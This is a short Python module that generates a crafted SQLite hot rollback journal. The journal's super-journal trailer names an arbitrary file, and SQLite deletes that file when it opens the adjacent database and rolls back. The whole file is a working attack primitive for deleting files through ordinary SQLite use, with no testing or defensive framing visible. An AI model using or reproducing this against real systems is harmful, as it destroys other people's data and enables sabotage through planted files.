"""A rollback journal that makes SQLite delete a file when it opens the database beside it."""

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal_naming(super_journal: Path | str, database: Path) -> bytes:
    """Return a hot journal of no pages whose trailer names a super-journal, which SQLite deletes after the rollback.

    See sqlite.org/fileformat2.html#the_rollback_journal; the trailer is that of `writeSuperJournal` in pager.c.
    """
    page_size = int.from_bytes(database.read_bytes()[16:18], "big")
    n_pages = database.stat().st_size // page_size
    header = _MAGIC + struct.pack(">5I", 0, 0x1234, n_pages, 512, page_size)
    name = str(super_journal).encode()
    locked_page = 0x40000000 // page_size + 1
    checksum = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF
    trailer = struct.pack(">I", locked_page) + name + struct.pack(">2I", len(name), checksum) + _MAGIC
    return header.ljust(512, b"\0") + trailer
